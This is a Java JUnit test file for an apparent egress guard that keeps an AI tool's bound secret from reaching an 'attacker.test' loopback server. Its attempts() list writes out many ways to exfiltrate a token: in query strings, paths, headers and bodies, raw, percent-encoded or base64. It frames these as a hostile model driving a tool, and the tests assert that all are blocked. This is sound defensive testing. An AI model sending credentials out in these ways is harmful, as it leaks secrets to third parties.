package dev.ironclaw4j.guard.egress;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * End to end, as a hostile model would drive a tool: a secret bound to one loopback server must
 * never reach a second "attacker" loopback server, whichever way the request is written. Both
 * servers are explicitly allowed by the policy (allow-private), so only the binding and the leak
 * scan stand between the secret and the attacker. The assertion is what arrived at the sink.
 */
class SecretExfiltrationTest {
  static final String TOKEN = "ghp_EXFILTRATEME0123456789abcdefABCD";
  static LoopbackServer bound;
  static LoopbackServer attacker;
  static Egress egress;

  @BeforeAll
  static void start() throws Exception {
    bound = new LoopbackServer().replying(r -> LoopbackServer.Reply.ok("echo: " + r.all()));
    attacker = new LoopbackServer();
    FakeResolver resolver = new FakeResolver().answer("bound.test", "127.0.0.1").answer("attacker.test", "127.0.0.1");
    TestSecrets secrets = new TestSecrets().add("API_TOKEN", TOKEN, "http://bound.test:" + bound.port() + "/api/*", "bearer");
    egress = Egress.builder()
        .policy(EgressPolicy.parse(List.of(
            "http://bound.test:" + bound.port() + "/ allow-private",
            "http://attacker.test:" + attacker.port() + "/ allow-private")))
        .secrets(secrets)
        .leakScanner(new TestLeakScanner(Map.of("API_TOKEN", TOKEN)))
        .resolver(resolver)
        .audit(e -> {})
        .totalTimeout(Duration.ofSeconds(5))
        .build();
  }

  @AfterAll
  static void stop() {
    egress.close();
    bound.close();
    attacker.close();
  }

  static String bound(String path) {
    return "http://bound.test:" + bound.port() + path;
  }

  static String attacker(String path) {
    return "http://attacker.test:" + attacker.port() + path;
  }

  /** Every way a caller could write the secret (placeholder or raw value) into a request to a given server. */
  static List<EgressRequest> attempts(Function<String, String> url) {
    String p = "{{secret:API_TOKEN}}";
    String b64 = Base64.getEncoder().encodeToString(TOKEN.getBytes(StandardCharsets.UTF_8));
    List<EgressRequest> out = new ArrayList<>();
    out.add(req("GET", url.apply("/api/x?token=" + p)).build());
    out.add(req("GET", url.apply("/api/" + p)).build());
    out.add(req("GET", url.apply("/api/x")).header("Authorization", "Bearer " + p).build());
    out.add(req("GET", url.apply("/api/x")).header("X-Api-Key", p).build());
    out.add(req("GET", url.apply("/api/x")).header("X-Note", "token is " + p + " ok").build());
    out.add(req("POST", url.apply("/api/x")).body("{\"token\":\"" + p + "\"}").build());
    out.add(req("GET", url.apply("/x")).attachSecret("API_TOKEN").build());
    out.add(req("GET", url.apply("/api/x?token=" + TOKEN)).build());
    out.add(req("GET", url.apply("/api/" + TOKEN)).build());
    out.add(req("GET", url.apply("/api/x?t=%" + Integer.toHexString(TOKEN.charAt(0)) + TOKEN.substring(1))).build());
    out.add(req("GET", url.apply("/api/%" + Integer.toHexString(TOKEN.charAt(0)) + TOKEN.substring(1))).build());
    out.add(req("GET", url.apply("/api/x?token=" + URLEncoder.encode(TOKEN, StandardCharsets.UTF_8))).build());
    out.add(req("GET", url.apply("/api/x")).header("Authorization", "Bearer " + TOKEN).build());
    out.add(req("GET", url.apply("/api/x")).header("X-Forward", TOKEN).build());
    out.add(req("POST", url.apply("/api/x")).body("stolen=" + TOKEN).build());
    out.add(req("POST", url.apply("/api/x")).body("AKIAIOSFODNN7EXAMPLE").build());
    out.add(req("POST", url.apply("/api/x")).body("b64=" + b64).header("Authorization", "Bearer " + p).build());
    return out;
  }

  static EgressRequest.Builder req(String method, String url) {
    return EgressRequest.builder("hostile-tool", method, url);
  }

  @Test
  void secretNeverReachesAnotherServerWhateverTheCallerWrites() {
    int refused = 0;
    for (EgressRequest r : attempts(SecretExfiltrationTest::attacker)) {
      try {
        egress.send(r);
      } catch (EgressDeniedException e) {
        refused++;
        assertFalse(e.getMessage().contains(TOKEN), e.getMessage());
      }
    }
    // The base64 attempt carries the value in an encoding this small test scanner does not know;
    // egress refuses it anyway because the placeholder is not bound to the attacker.
    assertEquals(attempts(SecretExfiltrationTest::attacker).size(), refused, "every attempt must be refused");
    assertEquals(0, attacker.connections(), "not one connection may reach the attacker");
    assertEquals(0, attacker.received().size());
  }

  @Test
  void secretReachesTheBoundServerOnlyWhereTheBindingSays() {
    int before = bound.received().size();
    for (EgressRequest r : attempts(SecretExfiltrationTest::bound)) {
      try {
        egress.send(r);
      } catch (EgressDeniedException e) {
        assertFalse(e.getMessage().contains(TOKEN), e.getMessage());
      }
    }
    for (LoopbackServer.Received got : bound.received().subList(before, bound.received().size())) {
      String everythingButAuth = got.method() + got.pathAndQuery() + got.body()
          + got.headers().entrySet().stream().filter(e -> !e.getKey().equalsIgnoreCase("Authorization")).toList();
      assertFalse(everythingButAuth.contains(TOKEN), "secret outside its bound location: " + got);
      String auth = got.headers().get("Authorization");
      assertTrue(auth == null || auth.equals("Bearer " + TOKEN), auth);
    }
  }

  @Test
  void legitimateCallWorksAndTheEchoIsRedacted() {
    EgressResponse r = egress.send(req("GET", bound("/api/me")).header("Authorization", "Bearer {{secret:API_TOKEN}}").build());
    assertEquals(200, r.status());
    assertEquals("Bearer " + TOKEN, bound.received().getLast().headers().get("Authorization"));
    assertTrue(r.redacted());
    assertFalse(r.bodyText().contains(TOKEN));
    assertTrue(r.bodyText().contains("[REDACTED:API_TOKEN]"), r.bodyText());
    assertThrows(EgressDeniedException.class, () -> egress.send(req("GET", attacker("/api/me"))
        .header("Authorization", "Bearer {{secret:API_TOKEN}}").build()));
    assertEquals(0, attacker.connections());
  }
}
